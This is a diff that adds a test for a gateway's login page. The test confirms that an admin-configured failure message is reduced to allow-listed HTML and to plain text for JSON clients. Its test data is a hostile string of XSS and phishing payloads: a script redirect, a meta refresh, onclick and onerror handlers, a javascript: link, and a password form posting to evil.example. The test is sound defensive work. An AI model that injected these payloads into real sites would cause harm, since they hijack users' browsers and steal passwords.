@@ -226,6 +226,31 @@ describe("site-config over REST", () => {
       assert.equal(await valueOf("maxFailedLogins"), 4);
     });
 
+    it("shows only the allow-listed HTML of uiLoginFailureMessage on the login page, and JSON clients plain text", async () => {
+      const hostile =
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">' +
+        '<p>Sign-in <b>failed</b> &amp; <em>%d</em> tries lock you out.</p><script>document.location="https://evil.example/"</script>' +
+        '<ul><li><a href="https://help.example.org/reset" onclick="steal()">Reset it</a></li><li><a href="javascript:alert(1)">Call</a> the <a href="/gateway/logout">desk</a></li></ul>' +
+        '<img src=x onerror="alert(1)"><form action="https://evil.example/"><input name="password"></form><style>body{display:none}</style>';
+      assert.equal((await postJson({ uiLoginFailureMessage: hostile, maxFailedLogins: 4 })).status, 200);
+      const page = await formLogin(gw, { username: "nobody", password: "wrong" });
+      assert.equal(page.res.status, 401);
+      const shown = /<div class="message error" role="alert">(.*?)<\/div>/s.exec(page.res.body)?.[1] ?? "";
+      assert.equal(
+        shown,
+        '<p>Sign-in <b>failed</b> &amp; <em>4</em> tries lock you out.</p>' +
+          '<ul><li><a href="https://help.example.org/reset" rel="noopener noreferrer">Reset it</a></li><li><a>Call</a> the <a>desk</a></li></ul>',
+      );
+      for (const gone of [/http-equiv/i, /<script/i, /onclick|onerror/i, /javascript:/i, /evil\.example/, /<img/i]) assert.doesNotMatch(page.res.body, gone);
+      assert.equal((page.res.body.match(/<form|<style/g) ?? []).length, 2, "the admin's form or style was kept");
+      const json = await tryLogin(gw, "nobody", "wrong");
+      assert.equal(json.res.status, 401);
+      assert.equal(json.res.json<{ message: string }>().message, "Sign-in failed & 4 tries lock you out.\n- Reset it\n- Call the desk");
+      // The stored value is the admin's, as written.
+      assert.equal(await valueOf("uiLoginFailureMessage"), hostile);
+      assert.equal((await gw.https(`${SITE}/values/uiLoginFailureMessage`, { method: "DELETE", headers: { ...API, cookie: admin.cookie, "x-csrf-token": admin.csrfToken } })).status, 200);
+    });
+
     it("switches the router to allow mode with securityChannel any, and back with https", async () => {
       assert.equal((await gw.http("/public/page", { headers: BROWSER })).status, 308, "redirect mode before");
       assert.equal((await postJson({ securityChannel: "any" })).status, 200);
